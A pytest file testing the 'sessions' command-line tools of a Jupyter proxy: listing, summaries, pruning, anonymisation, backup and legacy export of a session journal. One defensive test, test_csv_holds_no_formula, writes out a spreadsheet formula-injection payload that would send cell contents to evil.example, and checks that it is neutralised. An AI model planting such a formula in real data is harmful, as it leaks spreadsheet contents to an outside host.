"""The commands `sessions`: what they say of a journal, what they take out of it, on both engines."""

import asyncio
import csv
import io
import json
import os
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import chdir, closing, contextmanager
from pathlib import Path
from typing import Any

import pytest

from support.postgres import PostgresServer
from support.proxy import PREFIX
from support.storage import Storage
from visa_jupyter_proxy.control import original
from visa_jupyter_proxy.control.journal import upkeep
from visa_jupyter_proxy.control.journal.reading import Wanted
from visa_jupyter_proxy.identifiers import storable
from visa_jupyter_proxy.mailbox import NotebookKey
from visa_jupyter_proxy.sessions import answers as answering
from visa_jupyter_proxy.sessions.answers import Answers, CannotAnswer, answers
from visa_jupyter_proxy.sessions.layouts import Format, lines
from visa_jupyter_proxy.sessions.times import Zone, duration
from visa_jupyter_proxy.settings import Settings

NOON = 1_743_246_000.0
"""2025-03-29T11:00:00Z: noon in Paris, a day before its clocks go forward."""

HOUR = 3600.0


LONG = "a" * 200
"""The `sub` of a user, longer than the journal keeps it."""


class Facility:
    """A journal with sessions of any kind."""

    def __init__(self, storage: Storage) -> None:
        self.storage = storage
        self._count = 0
        asyncio.run(self._make())
        storage.script(
            "INSERT INTO owners (id, node, pid, beats, beat_at, started_at) VALUES ('me','n',1,0,0,0)"
        )

    async def _make(self) -> None:
        journal = self.storage.journal()
        await journal.transact(lambda _: None)
        await journal.close()

    def session(
        self,
        user: str = "anna",
        *,
        instance: int = 7,
        at: float = NOON,
        seconds: float | None = HOUR,
        messages: int | None = 3,
        touched: float | None = None,
        report: str | None = "delivered",
    ) -> str:
        """Add one with a connection and a report, and give its id; `seconds` None is one that is open."""
        self._count += 1
        name = f"s{self._count}"
        closed, touch = ("NULL" if value is None else repr(at + value) for value in (seconds, touched))
        counted = "NULL" if messages is None else repr(messages)
        self.storage.script(
            "INSERT INTO sessions (id, instance_id, kernel_id, session_id, user_id, opened_at, closed_at,"
            " reason, connections, bytes_up, bytes_down, messages_up, messages_down, last_interaction_at)"
            " VALUES"
            f" ('{name}', {instance}, 'kernel-{name}', 'session-{name}', '{user}', {at}, {closed}, 'gone',"
            f" 1, 10, 20, {counted}, {counted}, {touch});"
        )
        self.connection(name, name, at, closed)
        if report is not None:
            self.report(name, name, "close", report)
        return name

    def connection(self, name: str, session: str, at: float = NOON, ended: str = repr(NOON + HOUR)) -> None:
        """Add a connection of a session."""
        self.storage.script(
            "INSERT INTO connections (id, session, owner, worker, tunnel, opened_at, ended_at) VALUES"
            f" ('{name}', '{session}', 'me', 1, 1, {at}, {ended});"
        )

    def report(self, name: str, session: str, kind: str, state: str) -> None:
        """Add a report of a session."""
        self.storage.script(
            "INSERT INTO reports (id, session, owner, kind, state, attempts, created_at) VALUES"
            f" ('{name}', '{session}', 'me', '{kind}', '{state}', 0, {NOON});"
        )

    @contextmanager
    def asked(self, *, zone: str = "Europe/Paris", now: float = NOON + 100 * HOUR) -> Iterator[Answers]:
        """Ask it, as the commands do, at a certain time."""
        place = self.storage
        settings = Settings(storage_dir=place.directory, storage_url=place.url, log_timezone=zone)
        with answers(settings) as asked:
            asked._now = now
            yield asked

    def ids(self, table: str = "sessions") -> list[str]:
        """Give the ids of all rows."""
        return [row[0] for row in self.storage.rows(f"SELECT id FROM {table} ORDER BY id")]


@pytest.fixture
def facility(storage: Storage) -> Facility:
    """Give an empty journal."""
    return Facility(storage)


class TestList:
    """`sessions`: one line for each session."""

    def test_it_says_how_long_and_how_idle(self, facility: Facility) -> None:
        """Closed: until its end; open: until now; without interaction it was idle from its beginning."""
        facility.session("closed", touched=0.75 * HOUR)
        facility.session("open", seconds=None, touched=10 * HOUR)
        facility.session("untouched")
        facility.session("uncounted", messages=None)
        with facility.asked() as asked:
            rows = {row["user"]: (row["duration_s"], row["idle_s"]) for row in asked.rows(Wanted(), None)}
        assert {
            "closed": (HOUR, 0.25 * HOUR),
            "open": (100 * HOUR, 90 * HOUR),
            "untouched": (HOUR, HOUR),
            "uncounted": (HOUR, None),
        } == rows

    def test_it_has_all_that_is_known(self, facility: Facility) -> None:
        """Every column, times in the zone that was chosen."""
        facility.session("anna", touched=60)
        with facility.asked() as asked:
            (row,) = asked.rows(Wanted(), None)
        assert list(answering.COLUMNS) == list(row)
        assert {
            "opened": "2025-03-29T12:00:00+01:00",
            "closed": "2025-03-29T13:00:00+01:00",
            "instance": 7,
            "kernel": "kernel-s1",
            "session": "session-s1",
            "connections": 1,
            "messages_up": 3,
            "bytes_up": 10,
            "bytes_down": 20,
            "last_interaction": "2025-03-29T12:01:00+01:00",
            "reason": "gone",
        }.items() <= row.items()

    @pytest.mark.parametrize(
        ("reports", "told"),
        [
            ([], None),
            ([("open", "pending")], "waiting"),
            ([("open", "delivered")], "yes"),
            ([("open", "delivered"), ("close", "pending")], "waiting"),
            ([("open", "delivered"), ("close", "delivered")], "yes"),
            ([("open", "refused"), ("close", "delivered")], "refused"),
            ([("open", "not delivered"), ("close", "delivered")], "no"),
            ([("open", "not delivered"), ("open", "delivered")], "yes"),
            ([("close", "delivered")], "yes"),
        ],
    )
    def test_it_says_whether_visa_was_told(
        self, facility: Facility, reports: list[tuple[str, str]], told: str | None
    ) -> None:
        """The last opening counts; without any report there is nothing that VISA could be told."""
        facility.session(report=None)
        for number, (kind, state) in enumerate(reports):
            facility.report(f"r{number}", "s1", kind, state)
        with facility.asked() as asked:
            (row,) = asked.rows(Wanted(), None)
            states = dict(reports)
            assert (told, states.get("open"), states.get("close")) == (
                row["told"],
                row["open_report"],
                row["close_report"],
            )

    @pytest.mark.parametrize(
        ("wanted", "expected"),
        [
            (Wanted(), ["s4", "s3", "s2", "s1"]),
            (Wanted(since=NOON + 1), ["s4", "s3", "s2"]),
            (Wanted(until=NOON + 1), ["s1"]),
            (Wanted(user="ben"), ["s3", "s2"]),
            (Wanted(instance=9), ["s4"]),
            (Wanted(only_open=True), ["s3"]),
            (Wanted(user="ben", instance=9), []),
        ],
    )
    def test_it_chooses(self, facility: Facility, wanted: Wanted, expected: list[str]) -> None:
        """All conditions hold together; the newest stands first."""
        facility.session("anna")
        facility.session("ben", at=NOON + 1)
        facility.session("ben", at=NOON + 2, seconds=None)
        facility.session("carl", at=NOON + 3, instance=9)
        with facility.asked() as asked:
            assert expected == [row["session"].removeprefix("session-") for row in asked.rows(wanted, None)]

    @pytest.mark.parametrize("most", [None, 5, 2])
    def test_pages_come_without_gaps(
        self, facility: Facility, monkeypatch: pytest.MonkeyPatch, most: int | None
    ) -> None:
        """Sessions that began at the same time are neither left out nor shown twice at a page's end."""
        monkeypatch.setattr(answering, "_PAGE", 2)
        for number in range(7):
            facility.session(at=NOON + number // 5)
        with facility.asked() as asked:
            seen = [row["session"].removeprefix("session-") for row in asked.rows(Wanted(), most)]
        assert ["s7", "s6", "s5", "s4", "s3", "s2", "s1"][:most] == seen

    def test_a_journal_that_an_older_program_has_made(self, facility: Facility) -> None:
        """What is new in it since then is not asked for: an upgrade need not be over to look."""
        facility.session()
        facility.storage.script("DROP TABLE acceptances")
        with facility.asked() as asked:
            assert 1 == len([*asked.rows(Wanted(), None)])
        facility.storage.script("DROP TABLE reports")
        with (
            pytest.raises(CannotAnswer, match="reports; if an older program"),
            facility.asked() as asked,
        ):
            asked.summary("user", 0, 1e11)


class TestSummary:
    """`sessions summary`."""

    def test_by_day(self, facility: Facility) -> None:
        """A session counts for the day of its beginning, where the operator is; some days have 23 hours."""
        for user, hours in (("anna", 0), ("anna", 11.5), ("ben", 12), ("ben", 34.75), ("ben", 35.25)):
            facility.session(user, at=NOON + hours * HOUR)
        with facility.asked() as asked:
            found = asked.summary("day", 0, 1e11)
        assert [
            ("2025-03-29", 2, 1, 2 * HOUR),
            # The 30th begins 12 hours after noon, and has 23.
            ("2025-03-30", 2, 1, 2 * HOUR),
            ("2025-03-31", 1, 1, HOUR),
        ] == [(row["day"], row["sessions"], row["users"], row["duration_s"]) for row in found]

    def test_a_day_that_is_cut(self, facility: Facility) -> None:
        """What began outside the time that was asked for does not count, also on the same day."""
        for hours in (0, 1, 2):
            facility.session(at=NOON + hours * HOUR)
        with facility.asked() as asked:
            found = asked.summary("day", NOON + HOUR, NOON + 2 * HOUR)
        assert [("2025-03-29", 1)] == [(row["day"], row["sessions"]) for row in found]

    @pytest.mark.parametrize(
        ("by", "others", "expected"),
        [
            ("user", "instances", [("ben", 2, 1, 101 * HOUR, 6), ("anna", 2, 2, 2 * HOUR, 6)]),
            ("instance", "users", [(8, 3, 2, 102 * HOUR, 9), (7, 1, 1, HOUR, 3)]),
        ],
    )
    def test_by_user_or_instance(
        self, facility: Facility, by: Any, others: str, expected: list[tuple[Any, ...]]
    ) -> None:
        """Who used most stands first; what is open counts until now; the others are counted once."""
        facility.session("anna", instance=7)
        facility.session("anna", instance=8)
        facility.session("ben", instance=8)
        facility.session("ben", instance=8, seconds=None)
        with facility.asked() as asked:
            found = asked.summary(by, 0, 1e11)
        assert expected == [
            (row[by], row["sessions"], row[others], row["duration_s"], row["messages_up"]) for row in found
        ]

    def test_an_empty_journal(self, facility: Facility) -> None:
        """There is nothing to sum up."""
        with facility.asked() as asked:
            assert [] == asked.summary("day", 0, 1e11) == asked.summary("user", 0, 1e11)

    def test_it_neither_sorts_nor_looks_up(self, tmp_path: Path) -> None:
        """On SQLite the closed sessions, nearly all, are read from one index in the order of their groups."""
        facility = Facility(Storage(tmp_path))
        seen: list[str] = []
        with facility.asked() as asked:
            asked.summary("user", 0, 1e11)
        from sqlalchemy.dialects import sqlite  # noqa: PLC0415 -- this test alone

        from visa_jupyter_proxy.control.journal.reading import _summaries  # noqa: PLC0415 -- likewise

        statement = str(
            _summaries["user"].compile(dialect=sqlite.dialect(), compile_kwargs={"render_postcompile": True})
        )
        with closing(sqlite3.connect(tmp_path / "journal.sqlite3")) as connection:
            plan = connection.execute(f"EXPLAIN QUERY PLAN {statement}", [0.0] * statement.count("?"))
            seen = [row[3] for row in plan]
        assert any("USING COVERING INDEX sessions_summary" in line for line in seen), seen


class TestPrune:
    """`sessions prune`."""

    def test_what_is_old_and_settled_goes(self, facility: Facility, monkeypatch: pytest.MonkeyPatch) -> None:
        """In several steps, with all that refers to it; what is young, open or not reported stays."""
        monkeypatch.setattr(upkeep, "_STEP", 2)
        monkeypatch.setattr(upkeep, "_old", upkeep._old.limit(2))
        for _ in range(5):
            facility.session()
        kept = [
            facility.session(at=NOON + 90 * HOUR),
            facility.session(seconds=None),
            facility.session(report="pending"),
            facility.session(seconds=90 * HOUR),
        ]
        with facility.asked() as asked:
            steps: list[int] = []
            assert 5 == asked.prune(1, steps.append)
            assert 0 == asked.prune(1, steps.append)
        assert [2, 2, 1] == steps
        for table in ("sessions", "connections", "reports"):
            assert kept == facility.ids(table)

    def test_what_was_come_back_to_all_year_goes_in_pieces(
        self, facility: Facility, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        """No transaction is longer for it: a proxy waits for its turn, and PostgreSQL cuts it after 10 s."""
        monkeypatch.setattr(upkeep, "_MOST_CONNECTIONS", 3)
        name = facility.session()
        for number in range(7):
            facility.connection(f"c{number}", name)
        with facility.asked() as asked:
            steps: list[int] = []
            assert 1 == asked.prune(1, steps.append)
        assert [0, 0, 1] == steps
        for table in ("sessions", "connections", "reports"):
            assert [] == facility.ids(table)


class TestAnonymise:
    """`sessions anonymise`."""

    def test_nobody_can_be_found_in_it(self, facility: Facility) -> None:
        """Who, where and the ids are gone, in all sessions the same way; times and figures stay."""
        for _ in range(3):
            facility.session("anna")
        facility.session("ben")
        with facility.asked() as asked:
            before = [row["duration_s"] for row in asked.rows(Wanted(), None)]
            steps: list[int] = []
            assert (3, 0) == asked.anonymise("anna", steps.append)
            assert [3] == steps
            rows = list(asked.rows(Wanted(), None))
        assert before == [row["duration_s"] for row in rows]
        theirs = [row for row in rows if row["user"] != "ben"]
        assert 1 == len({row["user"] for row in theirs})
        assert all(row["user"].startswith("anonymous-") and row["instance"] == 0 for row in theirs)
        assert 6 == len({row[name] for row in theirs for name in ("kernel", "session")})
        assert not any(row[name].startswith(f"{name}-") for row in theirs for name in ("kernel", "session"))

    def test_what_is_still_needed_is_left(self, facility: Facility) -> None:
        """A proxy has yet to speak of it; the answer says how many there are."""
        facility.session("anna", seconds=None)
        facility.session("anna", report="pending")
        facility.session("anna")
        with facility.asked() as asked:
            assert (1, 2) == asked.anonymise("anna", lambda _: None)


class TestBackup:
    """`sessions backup`."""

    def test_a_copy_beside_a_writer(self, tmp_path: Path) -> None:
        """It has what is committed, in one file for its owner only; nothing is overwritten."""
        facility = Facility(Storage(tmp_path / "data"))
        facility.session()
        copy = tmp_path / "copy.sqlite3"
        with closing(sqlite3.connect(tmp_path / "data" / "journal.sqlite3", isolation_level=None)) as writer:
            writer.execute("BEGIN IMMEDIATE")
            writer.execute("DELETE FROM reports")
            with facility.asked() as asked:
                asked.backup(copy)
            writer.execute("ROLLBACK")
        assert {"data", "copy.sqlite3"} == {path.name for path in tmp_path.iterdir()}
        assert 0o600 == copy.stat().st_mode & 0o777
        with closing(sqlite3.connect(copy)) as connection:
            assert [("s1",)] == connection.execute("SELECT id FROM reports").fetchall()
        with facility.asked() as asked, pytest.raises(CannotAnswer, match="is there already"):
            asked.backup(copy)

    def test_without_a_journal(self, tmp_path: Path) -> None:
        """There is nothing to copy, and nothing is left of the attempt."""
        settings = Settings(storage_dir=tmp_path / "data")
        with pytest.raises(CannotAnswer, match="there is none yet"), answers(settings) as asked:
            asked.backup(tmp_path / "copy")
        assert [] == list(tmp_path.iterdir())

    @pytest.mark.parametrize("name", [".", "..", "data", "missing/copy"])
    def test_where_no_file_can_be(self, tmp_path: Path, name: str) -> None:
        """It says that of the copy, not of the journal, and leaves nothing."""
        facility = Facility(Storage(tmp_path / "data"))
        with (
            chdir(tmp_path),
            facility.asked() as asked,
            pytest.raises(CannotAnswer, match=f"^{name} cannot be written: "),
        ):
            asked.backup(Path(name))
        assert ["data"] == [path.name for path in tmp_path.iterdir()]

    def test_postgresql_has_its_own(self, tmp_path: Path) -> None:
        """The answer says with what to copy it, without the password."""
        settings = Settings(storage_dir=tmp_path, storage_url="postgresql+asyncpg://u:secret@h/d")
        with pytest.raises(CannotAnswer, match="pg_dump") as refused, answers(settings) as asked:
            asked.backup(tmp_path / "copy")
        assert "secret" not in str(refused.value)


class TestExport:
    """`sessions export --legacy`."""

    def test_what_visa_may_believe_open(self, facility: Facility, tmp_path: Path) -> None:
        """Sessions that are open, and those whose close VISA has not heard of; what 3.5 reads."""
        facility.session()
        facility.session(seconds=None)
        facility.session(report="pending", instance=9)
        file = tmp_path / "file"
        with facility.asked() as asked:
            assert (file, 2) == asked.export(file)
            with pytest.raises(CannotAnswer, match="is there already"):
                asked.export(file)
        assert {
            "key": "instanceNotebookSessions",
            "value": [
                {"instanceId": 7, "kernel": "kernel-s2", "sessionId": "session-s2"},
                {"instanceId": 9, "kernel": "kernel-s3", "sessionId": "session-s3"},
            ],
        } == json.loads(file.read_text())
        assert (NotebookKey(7, "kernel-s2", "session-s2"), NotebookKey(9, "kernel-s3", "session-s3")) == (
            original.read(file).keys
        )

    @pytest.mark.parametrize("name", [".", "", "data"])
    def test_where_no_file_can_be(self, tmp_path: Path, name: str) -> None:
        """It says so, and leaves nothing."""
        facility = Facility(Storage(tmp_path / "data"))
        with (
            chdir(tmp_path),
            facility.asked() as asked,
            pytest.raises(CannotAnswer, match=f"^{name or '.'} cannot be written: Is a directory"),
        ):
            asked.export(Path(name))
        assert ["data"] == [path.name for path in tmp_path.iterdir()]

    def test_it_goes_where_3_5_looks(self, tmp_path: Path) -> None:
        """Unless another file is named: beside the journal, by the MD5 of the key."""
        facility = Facility(Storage(tmp_path))
        with facility.asked() as asked:
            assert (tmp_path / "125a23b8db56aaa1f230afd3784764b6", 0) == asked.export(None)
        assert original.find(tmp_path) == [tmp_path / "125a23b8db56aaa1f230afd3784764b6"]

    def test_where_there_is_no_directory_yet(self, postgres: PostgresServer, tmp_path: Path) -> None:
        """With PostgreSQL the proxy has not made it, and 3.5 looks there all the same."""
        directory = tmp_path / "data"
        facility = Facility(Storage(directory, postgres, postgres.create("export")))
        with facility.asked() as asked:
            asked.export(None)
        assert 1 == len(original.find(directory))


class TestLayouts:
    """The three ways to write rows."""

    ROWS = (
        {"user": "anna, ben", "duration_s": 3725.4, "bytes_up": None},
        {"user": "c", "duration_s": 0, "bytes_up": 5},
    )
    COLUMNS = ("user", "duration_s", "bytes_up")

    def test_a_table(self) -> None:
        """Text begins at the left, numbers end at the right; durations are for people."""
        assert [
            "user       duration  bytes up",
            "anna, ben   1:02:05         -",
            "c           0:00:00         5",
        ] == list(lines(self.ROWS, self.COLUMNS, Format.TABLE))

    def test_json(self) -> None:
        """One array of objects; an empty one is one, too."""
        assert list(self.ROWS) == json.loads("\n".join(lines(self.ROWS, self.COLUMNS, Format.JSON)))
        assert [] == json.loads("\n".join(lines([], self.COLUMNS, Format.JSON)))

    def test_csv(self) -> None:
        """With a head; what is not known is empty."""
        text = "\n".join(lines(self.ROWS, self.COLUMNS, Format.CSV))
        assert [
            {"user": "anna, ben", "duration_s": "3725.4", "bytes_up": ""},
            {"user": "c", "duration_s": "0", "bytes_up": "5"},
        ] == list(csv.DictReader(io.StringIO(text)))

    @pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r"])
    def test_csv_holds_no_formula(self, begin: str) -> None:
        """Users choose ids of kernels, and spreadsheets compute what begins so; numbers stay numbers."""
        text = begin + 'HYPERLINK("https://evil.example/?"&A1)'
        rows = ({"user": text, "duration_s": -5.0, "bytes_up": None},)
        (row,) = csv.DictReader(io.StringIO("\n".join(lines(rows, self.COLUMNS, Format.CSV)), newline=""))
        assert ("'" + text, "-5.0", "") == (row["user"], row["duration_s"], row["bytes_up"])
        (whole,) = json.loads("".join(lines(rows, self.COLUMNS, Format.JSON)))
        assert text == whole["user"]

    def test_durations(self) -> None:
        """Seconds are rounded before minutes are taken, and days are hours."""
        assert ["0:00:00", "0:01:00", "0:59:59", "50:00:00"] == [
            duration(seconds) for seconds in (0.4, 59.6, 3599.4, 180000)
        ]


class TestTimes:
    """Moments, as people write them."""

    @pytest.mark.parametrize(
        ("text", "expected"),
        [
            ("2025-03-29T12:00", NOON),
            ("2025-03-29T11:00Z", NOON),
            ("2025-03-29", NOON - 12 * HOUR),
            ("2025-03-31", NOON + 35 * HOUR),
            ("90m", 10 * HOUR - 5400),
            ("2d", 10 * HOUR - 48 * HOUR),
        ],
    )
    def test_a_moment(self, text: str, expected: float) -> None:
        """A date is its first moment, where the operator is; or it is so long ago."""
        assert expected == Zone("Europe/Paris").moment(text, 10 * HOUR)

    @pytest.mark.parametrize("text", ["", "yesterday", "7", "7y", "2025-02-30", "-1d"])
    def test_no_moment(self, text: str) -> None:
        """The mistake says what could be written."""
        with pytest.raises(ValueError, match="write a date such as"):
            Zone("Europe/Paris").moment(text, 0)


def sessions(directory: Path, *words: str, **settings: str) -> "subprocess.CompletedProcess[str]":
    """Run the command as an operator does."""
    inherited = {name: value for name, value in os.environ.items() if not name.startswith(PREFIX)}
    chosen = {f"{PREFIX}{name}": value for name, value in settings.items()}
    return subprocess.run(
        [sys.executable, "-m", "visa_jupyter_proxy", "sessions", *words],
        cwd=directory,
        env=inherited | chosen | {"NO_COLOR": "1", "COLUMNS": "200"},
        capture_output=True,
        text=True,
        check=False,
        timeout=110,
    )


class TestCommands:
    """The commands, as processes."""

    def test_answers_go_to_the_output_and_nothing_else_does(self, facility: Facility, tmp_path: Path) -> None:
        """What another program reads is clean; that there is more is said elsewhere."""
        facility.session("anna")
        facility.session("ben")
        done = sessions(
            tmp_path, "--format", "json", "--limit", "1", "--since", "2025-01-01", **facility.storage.settings
        )
        assert 0 == done.returncode, done.stderr
        assert ["ben"] == [row["user"] for row in json.loads(done.stdout)]
        assert "The newest 1 are shown" in done.stderr
        done = sessions(tmp_path, "summary", "--by", "user", "--format", "csv", **facility.storage.settings)
        assert ["anna", "ben"] == [row["user"] for row in csv.DictReader(io.StringIO(done.stdout))]

    @pytest.mark.parametrize(
        ("words", "settings", "status", "said"),
        [
            ((), {}, 1, "data/journal.sqlite3 cannot be used: there is none yet"),
            (("prune", "--days", "1"), {}, 1, "data/journal.sqlite3 cannot be used: there is none yet"),
            (
                ("anonymise", "--user", "anna"),
                {},
                1,
                "data/journal.sqlite3 cannot be used: there is none yet",
            ),
            (("prune",), {}, 2, "VISA_JUPYTER_PROXY_SESSION_RETENTION_DAYS"),
            (("export",), {}, 2, "--legacy"),
            (("--since", "soon"), {}, 2, "write a date such as"),
            (("summary", "--by", "week"), {}, 2, "'--by': write one of day, user, instance"),
            (("--format", "xml"), {}, 2, "'--format': write one of table, json, csv"),
            (("--open", "summary"), {}, 2, "write the options after summary"),
            (("--instance", str(2**63)), {}, 2, "--instance"),
            (("--user", ""), {}, 2, "--user': it is empty: write what is meant, or leave the option out"),
            (("anonymise", "--user", ""), {}, 2, "--user': it is empty"),
            (("--user", "\udcff"), {}, 2, "--user': it is not UTF-8: write it in UTF-8"),
            (("anonymise", "--user", "jos\udce9"), {}, 2, "--user': it is not UTF-8"),
            (("--json", "--format", "csv"), {}, 2, "write --json or --format csv, not both"),
            (("summary", "--json", "--format", "table"), {}, 2, "write --json or --format table, not both"),
            (
                ("--since", "2025-02-01", "--until", "2025-01-01"),
                {},
                2,
                "2025-01-01 is not after --since 2025-02-01",
            ),
            (("summary", "--since", "7d", "--until", "7d"), {}, 2, "7d is not after --since 7d"),
            ((), {"SESSION_RETENTION_DAYS": "a year"}, 2, "VISA_JUPYTER_PROXY_SESSION_RETENTION_DAYS"),
        ],
    )
    def test_what_cannot_be_done_is_said(
        self, tmp_path: Path, words: tuple[str, ...], settings: dict[str, str], status: int, said: str
    ) -> None:
        """In words, with a status of its own; no journal is made by asking for one."""
        done = sessions(tmp_path, *words, **settings)
        assert (status, "") == (done.returncode, done.stdout)
        assert said in done.stderr
        assert "Traceback" not in done.stderr
        assert [] == list(tmp_path.iterdir())

    @pytest.mark.parametrize("words", [("--json",), ("--format", "json"), ("--json", "--format", "json")])
    def test_json_is_asked_for_as_of_every_command(self, tmp_path: Path, words: tuple[str, ...]) -> None:
        """`--json`; lists have `--format`, too, for there is CSV."""
        facility = Facility(Storage(tmp_path))
        facility.session("anna")
        for command in ((), ("summary", "--by", "user")):
            done = sessions(tmp_path, *command, *words, **facility.storage.settings)
            assert ["anna"] == [row["user"] for row in json.loads(done.stdout)], done.stderr

    @pytest.mark.parametrize("command", [("--open",), ("summary",), ("--user", "nobody")])
    def test_that_there_are_none_is_said_to_people(self, tmp_path: Path, command: tuple[str, ...]) -> None:
        """Beside the answer, whose form stays as it is: a program reads an empty list."""
        facility = Facility(Storage(tmp_path))
        facility.session("anna")
        none = command if command[0] != "summary" else (*command, "--until", "2020-01-01")
        done = sessions(tmp_path, *none, **facility.storage.settings)
        assert (0, "There are no such sessions.\n") == (done.returncode, done.stderr)
        assert 1 == len(done.stdout.splitlines())
        done = sessions(tmp_path, *none, "--json", **facility.storage.settings)
        assert (0, "", []) == (done.returncode, done.stderr, json.loads(done.stdout))

    def test_json_of_what_is_done(self, tmp_path: Path) -> None:
        """One object, with what came of it; the status is as without."""
        facility = Facility(Storage(tmp_path / "data"))
        for user in ("anna", "ben"):
            facility.session(user)
        facility.session("ben", seconds=None)

        def told(*words: str, status: int = 0) -> Any:
            done = sessions(tmp_path, *words, "--json", **facility.storage.settings)
            assert status == done.returncode, done.stderr
            return json.loads(done.stdout)

        assert {"file": "copy"} == told("backup", "copy")
        assert {"file": "old", "sessions": 1, "running": []} == told("export", "--legacy", "--to", "old")
        assert {"anonymised": 1, "left": 1} == told("anonymise", "--user", "ben", status=1)
        assert {"deleted": 2} == told("prune", "--days", "1")

    def test_a_user_of_whom_the_list_shows_a_shortened_name(self, facility: Facility, tmp_path: Path) -> None:
        """Both are understood: what the list shows, and what the token says."""
        facility.session(storable(LONG))
        for name in (LONG, storable(LONG)):
            done = sessions(tmp_path, "--json", "--user", name, **facility.storage.settings)
            assert [storable(LONG)] == [row["user"] for row in json.loads(done.stdout)]
        done = sessions(tmp_path, "anonymise", "--user", LONG, **facility.storage.settings)
        assert "1 sessions were anonymised" in done.stdout

    def test_the_way_back_while_a_proxy_runs(self, facility: Facility, tmp_path: Path) -> None:
        """It is said which one goes on to write: 3.5 would close what begins meanwhile."""
        export = ("export", "--legacy", "--to")
        done = sessions(tmp_path, *export, "one", **facility.storage.settings)
        assert (0, "") == (done.returncode, done.stderr), "its last heartbeat was long ago"
        facility.storage.script(f"UPDATE owners SET beat_at = {time.time()}, pid = 4711")
        done = sessions(tmp_path, *export, "two", **facility.storage.settings)
        assert (0, True) == (done.returncode, (tmp_path / "two").exists())
        assert "a proxy still runs on n (process 4711)" in done.stderr
        facility.storage.script(f"UPDATE owners SET stopped_at = {time.time()}")
        done = sessions(tmp_path, *export, "three", **facility.storage.settings)
        assert (0, "") == (done.returncode, done.stderr), "it has stopped in order"
